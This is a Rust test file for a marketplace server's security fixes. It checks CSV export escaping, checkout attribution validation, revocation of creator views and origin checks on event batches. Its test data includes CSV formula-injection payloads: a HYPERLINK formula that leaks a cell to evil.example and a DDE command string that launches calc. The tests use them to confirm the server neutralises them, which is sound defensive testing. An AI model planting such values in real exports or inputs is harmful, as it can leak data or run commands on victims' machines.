//! Security review (issue 11): CSV exports cannot be broken into rows or formulas, attribution
//! is checked at the door, creator views follow the creator's links and the listing's
//! creators, event batches need an allowed origin or the seller's token, and the demo's
//! listing files are served without their `allowed_origins`.

mod support;

use axum::http::{Method, StatusCode, header};
use mighty_server::store::StoredEvent;
use serde_json::{Value, json};
use support::{DIRECTORY, SELLER, TestServer};

const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

async fn dashboard_cookie(server: &TestServer) -> String {
    let request = axum::http::Request::post("/dashboard/sign-in")
        .header("content-type", "application/x-www-form-urlencoded")
        .body(axum::body::Body::from(format!("token={SELLER}")))
        .unwrap();
    let signed = server.send(request).await;
    assert_eq!(signed.status, StatusCode::SEE_OTHER, "{}", signed.text());
    signed.headers[header::SET_COOKIE]
        .to_str()
        .unwrap()
        .split(';')
        .next()
        .unwrap()
        .to_string()
}

fn read_csv(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|record| record.unwrap().iter().map(String::from).collect())
        .collect()
}

#[tokio::test]
async fn csv_exports_keep_hostile_text_inside_one_neutralised_cell() {
    let server = TestServer::with_listing().await;
    // Handles as hostile as storage may hold from before the door checked them.
    let hostile = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
        "+1",
        "@x",
        "-2+3",
        "a\r=1+1",
        "b\n@SUM(1)",
    ];
    let at = server.state.now().0 - 60;
    let events: Vec<StoredEvent> = hostile
        .iter()
        .enumerate()
        .map(|(index, text)| StoredEvent {
            id: format!("legacy-{index}"),
            event_type: "view".into(),
            listing_id: "candle-trio".into(),
            creator: (index % 2 == 0).then(|| text.to_string()),
            variant: Some(text.to_string()),
            offer_variant: None,
            visitor_id: format!("visitor-{index}"),
            at,
        })
        .collect();
    server
        .state
        .store(move |store| store.record_events(&events, at))
        .await
        .unwrap();
    // And a paid checkout whose variant tried the same through the door.
    let mut body = TestServer::checkout_body("trio", None, 1);
    body["attribution"]["variant"] = json!("c\r-2+3");
    let session = server.checkout("hostile-variant", &body).await;
    assert_eq!(session.status, StatusCode::CREATED, "{}", session.text());
    let session_id = session.json()["session_id"].as_str().unwrap().to_string();
    server
        .pay(&session_id, "4242424242424242", TestServer::SHIPPING)
        .await;

    let segments = server
        .seller_get("/v1/metrics?listing=candle-trio")
        .await
        .json()["segments"]
        .as_array()
        .unwrap()
        .len();
    let cookie = dashboard_cookie(&server).await;
    let request = axum::http::Request::get("/dashboard/listings/candle-trio/segments.csv")
        .header("cookie", cookie.as_str())
        .body(axum::body::Body::empty())
        .unwrap();
    let export = server.send(request).await;
    assert_eq!(export.status, StatusCode::OK);
    let text = export.text();
    let rows = read_csv(&text);
    assert_eq!(rows.len(), 1 + segments, "one row per segment: {text:?}");
    for row in &rows {
        assert_eq!(row.len(), rows[0].len(), "{row:?}");
        for cell in row {
            assert!(
                !cell.starts_with(FORMULA_STARTS),
                "a cell starts like a formula: {cell:?} in {text:?}"
            );
        }
    }
    // The hostile handles are still there, each inside its own cell.
    for handle in hostile {
        assert!(
            rows.iter().any(|row| row[0].contains(handle)),
            "{handle:?} in {rows:?}"
        );
    }
    assert!(
        !rows.iter().any(|row| row[0].contains("c\r-2+3")),
        "the checkout's variant was dropped at the door: {rows:?}"
    );
}

async fn stored_attribution(
    server: &TestServer,
    session_id: &str,
) -> (Option<String>, bool, Value) {
    let id = session_id.to_string();
    let session = server
        .state
        .store(move |store| store.session(&id))
        .await
        .unwrap()
        .unwrap();
    (
        session.attribution.creator,
        session.attribution.creator_verified,
        session.attribution.raw,
    )
}

#[tokio::test]
async fn attribution_is_checked_at_the_door() {
    let server = TestServer::with_listing().await;
    let mut body = TestServer::checkout_body("trio", None, 1);
    body["attribution"] = json!({
        "creator": "=cmd|' /C calc'!A0", "token": "=1+1", "variant": "theo\u{7}",
        "page": "https://directory.example/lyon",
        "utm": { "source": "instagram", "medium": "a\rb", "campaign": "x".repeat(101), "content": "=1+1", "term": null }
    });
    let response = server.checkout("formula-creator", &body).await;
    assert_eq!(
        response.status,
        StatusCode::CREATED,
        "the shopper still checks out: {}",
        response.text()
    );
    let session_id = response.json()["session_id"].as_str().unwrap().to_string();
    let (creator, verified, raw) = stored_attribution(&server, &session_id).await;
    assert_eq!(creator, None, "no such creator is stored");
    assert!(!verified);
    assert_eq!(raw["creator"], Value::Null, "{raw}");
    assert_eq!(raw["token"], Value::Null, "{raw}");
    assert_eq!(raw["variant"], Value::Null, "{raw}");
    assert_eq!(raw["page"], "https://directory.example/lyon");
    assert_eq!(raw["utm"]["source"], "instagram");
    assert_eq!(
        raw["utm"]["medium"],
        Value::Null,
        "control characters: {raw}"
    );
    assert_eq!(
        raw["utm"]["campaign"],
        Value::Null,
        "over 100 characters: {raw}"
    );
    assert_eq!(
        raw["utm"]["content"], "=1+1",
        "text within limits (exports neutralise it)"
    );
    assert!(!raw.to_string().contains("calc"), "{raw}");

    // A well-formed handle the listing does not have is kept, unverified.
    let mut unknown = TestServer::checkout_body("trio", None, 1);
    unknown["attribution"]["creator"] = json!("zoe");
    let session = server.checkout("unknown-creator", &unknown).await.json()["session_id"]
        .as_str()
        .unwrap()
        .to_string();
    let (creator, verified, _) = stored_attribution(&server, &session).await;
    assert_eq!((creator.as_deref(), verified), (Some("zoe"), false));

    // A genuine token is verified only while its creator is one of the listing's.
    let link = server
        .seller_post(
            "/v1/listings/candle-trio/creator-links",
            json!({ "handle": "theo" }),
        )
        .await
        .json();
    let mut through_link = TestServer::checkout_body("trio", None, 1);
    through_link["attribution"]["creator"] = json!("theo");
    through_link["attribution"]["token"] = link["token"].clone();
    let session = server.checkout("theo-link", &through_link).await.json()["session_id"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        stored_attribution(&server, &session).await.1,
        "theo's genuine link"
    );
    let mut without_theo = support::listing("candle-trio", None);
    without_theo["creators"] = json!([{ "handle": "ana", "name": "Ana" }]);
    assert_eq!(
        server.put_listing("candle-trio", without_theo).await.status,
        StatusCode::OK
    );
    let session = server.checkout("theo-left", &through_link).await.json()["session_id"]
        .as_str()
        .unwrap()
        .to_string();
    let (creator, verified, _) = stored_attribution(&server, &session).await;
    assert_eq!(
        (creator.as_deref(), verified),
        (Some("theo"), false),
        "theo left the listing"
    );
}

async fn creator_view_path(server: &TestServer, handle: &str) -> String {
    let view = server
        .seller_post(
            "/v1/listings/candle-trio/creator-views",
            json!({ "handle": handle }),
        )
        .await;
    assert_eq!(view.status, StatusCode::CREATED, "{}", view.text());
    view.json()["url"]
        .as_str()
        .unwrap()
        .trim_start_matches("http://127.0.0.1:8080")
        .to_string()
}

#[tokio::test]
async fn creator_views_are_revoked_with_the_creators_links() {
    let server = TestServer::with_listing().await;
    let path = creator_view_path(&server, "ana").await;
    assert_eq!(server.get(&path).await.status, StatusCode::OK);
    let other = creator_view_path(&server, "theo").await;

    let revoked = server
        .request(
            Method::DELETE,
            "/v1/listings/candle-trio/creator-links/ana",
            &[("authorization", &format!("Bearer {SELLER}"))],
            None,
        )
        .await;
    assert_eq!(revoked.status, StatusCode::OK, "{}", revoked.text());
    let page = server.get(&path).await;
    assert_eq!(page.status, StatusCode::FORBIDDEN);
    assert!(page.text().contains("revoked"), "{}", page.text());
    assert_eq!(
        server.get(&other).await.status,
        StatusCode::OK,
        "theo's view is not ana's"
    );

    // A view issued after the revocation works (tokens carry whole seconds: one issued in
    // the second of the revocation is revoked too).
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    let fresh = creator_view_path(&server, "ana").await;
    assert_eq!(server.get(&fresh).await.status, StatusCode::OK);
}

#[tokio::test]
async fn a_creator_view_closes_when_the_creator_leaves_the_listing() {
    let server = TestServer::with_listing().await;
    let path = creator_view_path(&server, "theo").await;
    assert_eq!(server.get(&path).await.status, StatusCode::OK);
    let mut without_theo = support::listing("candle-trio", None);
    without_theo["creators"] = json!([{ "handle": "ana", "name": "Ana" }]);
    assert_eq!(
        server.put_listing("candle-trio", without_theo).await.status,
        StatusCode::OK
    );
    let page = server.get(&path).await;
    assert_eq!(page.status, StatusCode::FORBIDDEN);
    assert!(
        page.text().contains("no longer a creator"),
        "{}",
        page.text()
    );
    // Back on the listing, the link works again (it was never revoked).
    assert_eq!(
        server
            .put_listing("candle-trio", support::listing("candle-trio", None))
            .await
            .status,
        StatusCode::OK
    );
    assert_eq!(server.get(&path).await.status, StatusCode::OK);
}

fn batch(id: &str) -> String {
    json!([{ "id": id, "type": "view", "listing_id": "candle-trio", "creator": null, "variant": "ana", "visitor_id": "v", "at": "2026-11-20T10:00:00Z" }]).to_string()
}

async fn post_events(
    server: &TestServer,
    headers: &[(&str, &str)],
    body: String,
) -> support::Response {
    server
        .request(Method::POST, "/v1/events", headers, Some(body))
        .await
}

#[tokio::test]
async fn event_batches_need_an_allowed_origin_or_the_sellers_token() {
    let server = TestServer::with_listing().await;
    let anonymous = post_events(&server, &[], batch("anonymous")).await;
    assert_eq!(
        anonymous.status,
        StatusCode::UNAUTHORIZED,
        "{}",
        anonymous.text()
    );
    assert!(
        anonymous.json()["error"]["message"]
            .as_str()
            .unwrap()
            .contains("Origin"),
        "{}",
        anonymous.text()
    );
    let wrong = post_events(
        &server,
        &[("authorization", "Bearer not-a-token")],
        batch("wrong"),
    )
    .await;
    assert_eq!(wrong.status, StatusCode::UNAUTHORIZED);

    let bearer = format!("Bearer {SELLER}");
    let from_server = post_events(
        &server,
        &[("authorization", bearer.as_str())],
        batch("server"),
    )
    .await;
    assert_eq!(from_server.status, StatusCode::OK, "{}", from_server.text());
    assert_eq!(from_server.json()["accepted"], 1);

    let now = server.state.now().0;
    server
        .state
        .store(move |store| store.add_seller("Other", "other-seller-token-0123456789", now))
        .await
        .unwrap();
    let other = post_events(
        &server,
        &[("authorization", "Bearer other-seller-token-0123456789")],
        batch("other"),
    )
    .await;
    assert_eq!(other.status, StatusCode::FORBIDDEN, "{}", other.text());

    let browser = post_events(&server, &[("origin", DIRECTORY)], batch("browser")).await;
    assert_eq!(browser.status, StatusCode::OK, "{}", browser.text());
    let foreign = post_events(
        &server,
        &[
            ("origin", "https://elsewhere.example"),
            ("authorization", bearer.as_str()),
        ],
        batch("foreign"),
    )
    .await;
    assert_eq!(foreign.error_code(), "origin_not_allowed");
    let views: u64 = server
        .seller_get("/v1/metrics?listing=candle-trio")
        .await
        .json()["segments"]
        .as_array()
        .unwrap()
        .iter()
        .map(|segment| segment["views"].as_u64().unwrap())
        .sum();
    assert_eq!(views, 2, "the seller's and the allowed origin's");
}

#[tokio::test]
async fn listing_files_under_www_are_served_without_allowed_origins() {
    let server = TestServer::new().await;
    let document = support::listing("candle-trio", None);
    let folder = server.root.0.join("www/listings");
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::write(folder.join("candle-trio.json"), document.to_string()).unwrap();
    for (path, headers) in [
        ("/www/listings/candle-trio.json", vec![]),
        ("/www/listings/candle-trio%2Ejson", vec![]),
        ("/www/%6Cistings/candle-trio.json", vec![]),
        (
            "/www/listings/candle-trio.json",
            vec![("range", "bytes=0-"), ("accept-encoding", "gzip")],
        ),
    ] {
        let response = server.request(Method::GET, path, &headers, None).await;
        assert_eq!(
            response.status,
            StatusCode::OK,
            "{path}: {}",
            response.text()
        );
        let served = response.json();
        assert_eq!(served["id"], "candle-trio", "{path}");
        assert_eq!(served["creators"], document["creators"], "{path}");
        assert!(
            served.get("allowed_origins").is_none() && !response.text().contains(DIRECTORY),
            "{path}: {}",
            response.text()
        );
    }
}
